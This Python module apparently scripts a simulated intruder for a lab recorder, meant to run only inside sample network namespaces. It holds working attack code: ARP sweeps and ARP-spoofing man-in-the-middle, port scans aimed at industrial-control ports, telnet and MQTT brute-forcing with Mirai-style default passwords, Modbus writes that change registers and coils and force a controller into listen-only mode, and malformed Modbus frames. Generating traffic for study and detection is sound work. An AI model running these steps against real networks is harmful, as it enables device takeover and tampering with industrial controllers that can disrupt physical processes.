"""What the intruder of the sample does, step by step; each step runs in the namespace of the host it comes from.

``python sample_attack.py STEP ARGUMENT...``; the recorder starts it. The steps are plain and slow on purpose: they are to be
seen, not to work anywhere else. It must never be run outside the sample's namespaces.
"""

from __future__ import annotations

import contextlib
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterable
from pathlib import Path

_ARP, _REQUEST, _REPLY = 0x0806, 1, 2
_BROADCAST = b"\xff" * 6
_PLANT_PORTS = (102, 502, 2404, 4840, 20000, 44818, 47808)
_PORTS = (21, 22, 23, 25, 53, 80, 81, 110, 111, 135, 139, 143, 443, 445, 554, 993, 1080, 1433, 1723, 3306, 3389, 5000, 5060, 5432,
          5900, 8000, 8080, 8443, 9000, 37777)  # fmt: skip
_WORDS = (
    "admin",
    "password",
    "1234",
    "root",
    "888888",
    "666666",
    "pass",
    "admin123",
    "xc3511",
    "vizxv",
    "juantech",
    "123456",
    "default",
    "system",
)
_GUESSES = 15
_PATIENCE = 0.4
"""Seconds to wait for a connection."""
_PAUSE = 0.05
"""Seconds between two knocks."""


def _card() -> bytes:
    return bytes.fromhex(Path("/sys/class/net/eth0/address").read_text(encoding="ascii").strip().replace(":", ""))


def _arp(operation: int, sender: tuple[bytes, str], target: tuple[bytes, str], to: bytes) -> bytes:
    """An ARP frame (RFC 826), sent from this host's card whatever it claims."""
    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation)
    addresses = sender[0] + socket.inet_aton(sender[1]) + target[0] + socket.inet_aton(target[1])
    return to + _card() + struct.pack("!H", _ARP) + body + addresses


def _frames() -> socket.socket:
    """A raw socket on this host's only card."""
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ARP))
    raw.bind(("eth0", _ARP))
    return raw


def sweep(own: str) -> None:
    """Asks for every address of the network by ARP."""
    network = own.rsplit(".", 1)[0]
    with _frames() as raw:
        for last in range(1, 255):
            raw.send(_arp(_REQUEST, (_card(), own), (bytes(6), f"{network}.{last}"), _BROADCAST))
            time.sleep(_PAUSE)


def knock(*addresses: str) -> None:
    """Tries many ports of the first address, then the ports of controllers and file sharing on all."""
    for port in _PORTS:
        _connect(addresses[0], port)
    for address in addresses:
        for port in (445, *_PLANT_PORTS):
            _connect(address, port)


def _connect(address: str, port: int) -> None:
    with contextlib.suppress(OSError):
        socket.create_connection((address, port), _PATIENCE).close()
    time.sleep(_PAUSE)


def telnet(address: str) -> None:
    """Guesses default passwords, three to a connection as the daemon allows, until one opens; then looks around."""
    words = [*_WORDS, "12345"]
    while words:
        with socket.create_connection((address, 23), 5) as line:
            for word in words[:3]:
                _until(line, b"login: ")
                line.sendall(b"admin\r\n")
                _until(line, b"Password: ")
                line.sendall(word.encode() + b"\r\n")
            words = words[3:]
            if words:
                _until(line, b"incorrect")
                continue
            for command in (b"id", b"uname -a", b"exit"):
                _until(line, b"# ")
                line.sendall(command + b"\r\n")
            with contextlib.suppress(OSError):
                line.recv(4096)


def _until(line: socket.socket, words: bytes) -> None:
    """Read up to a prompt and refuse every option the daemon offers (RFC 854)."""
    seen = b""
    while words not in seen:
        data = line.recv(4096)
        if not data:
            raise ConnectionError(f"the daemon hung up before {words!r}")
        answers = b"".join(_refusal(data[at + 1], data[at + 2]) for at in range(len(data) - 2) if data[at] == 0xFF)
        if answers:
            line.sendall(answers)
        seen += data


def _refusal(verb: int, option: int) -> bytes:
    """DO is answered by WONT and WILL by DONT; anything else needs no answer."""
    answer = {0xFD: 0xFC, 0xFB: 0xFE}.get(verb)
    return b"" if answer is None else bytes((0xFF, answer, option))


def broker(address: str) -> None:
    """Guesses passwords at the MQTT broker in the clear."""
    from paho.mqtt.client import Client  # noqa: PLC0415 - only this step needs it
    from paho.mqtt.enums import CallbackAPIVersion  # noqa: PLC0415 - same

    for turn in range(_GUESSES):
        client = Client(CallbackAPIVersion.VERSION2, client_id=f"probe-{turn}")
        client.username_pw_set("admin", _WORDS[turn % len(_WORDS)])
        client.connect(address, 1883)
        until = time.monotonic() + 0.5
        while time.monotonic() < until:
            client.loop(0.1)
        client.disconnect()


def rogue(address: str) -> None:
    """The captured camera asks a controller who it is, then writes a register and coils, and resets its communication."""
    from pymodbus.client import ModbusTcpClient  # noqa: PLC0415 - only this step needs it

    client = ModbusTcpClient(address, timeout=2)
    client.connect()
    client.read_device_information(read_code=1, object_id=0)
    client.read_holding_registers(0, count=10)
    for value in (900, 950, 999):
        client.write_register(5, value)
        time.sleep(1)
    client.write_coil(2, value=True)
    client.write_coils(8, [True] * 8)
    time.sleep(1)
    client.diag_restart_communication(toggle=True)
    client.diag_force_listen_only(no_response_expected=True)
    client.close()


def broken(address: str) -> None:
    """Modbus requests that break the protocol: too short, with counts that do not agree, and the last one cut off."""
    reads = bytes.fromhex("000100000006 01 03 0000 0002")
    frames = (
        "000200000003 01 03 00",
        "000300000009 01 10 0000 0002 04 0001",
        "000400000004 01 06 0005",
        "000500000008 01 0f 0000 0010 09 ff",
        "000600000003 01 05 ff",
        "000700000005 01 10 0000 00",
        "00080000000b 01 17 0000 0002 0000 0003 ff",
        "000900000004 01 2b 0e",
    )
    for frame in frames:
        with contextlib.suppress(OSError), socket.create_connection((address, 502), 2) as line:
            line.settimeout(0.4)
            line.sendall(reads)
            line.recv(260)
            line.sendall(bytes.fromhex(frame))
            line.recv(260)


def between(first: str, second: str) -> None:
    """Stands between two hosts by forged ARP replies for a while, then puts things right."""
    cards = {address: _resolved(address) for address in (first, second)}
    with _frames() as raw:
        for turn in range(12):
            for victim, other in ((first, second), (second, first)):
                claimed = _card() if turn < 10 else cards[other]
                raw.send(_arp(_REPLY, (claimed, other), (cards[victim], victim), cards[victim]))
            time.sleep(1)


def _resolved(address: str) -> bytes:
    """The card of an address, as the system found it."""
    _connect(address, 9)
    for line in Path("/proc/net/arp").read_text(encoding="ascii").splitlines()[1:]:
        columns = line.split()
        if columns[0] == address:
            return bytes.fromhex(columns[3].replace(":", ""))
    raise LookupError(f"{address} did not answer")


STEPS: Iterable[Callable[..., None]] = (sweep, knock, telnet, broker, rogue, broken, between)

if __name__ == "__main__":
    {step.__name__: step for step in STEPS}[sys.argv[1]](*sys.argv[2:])
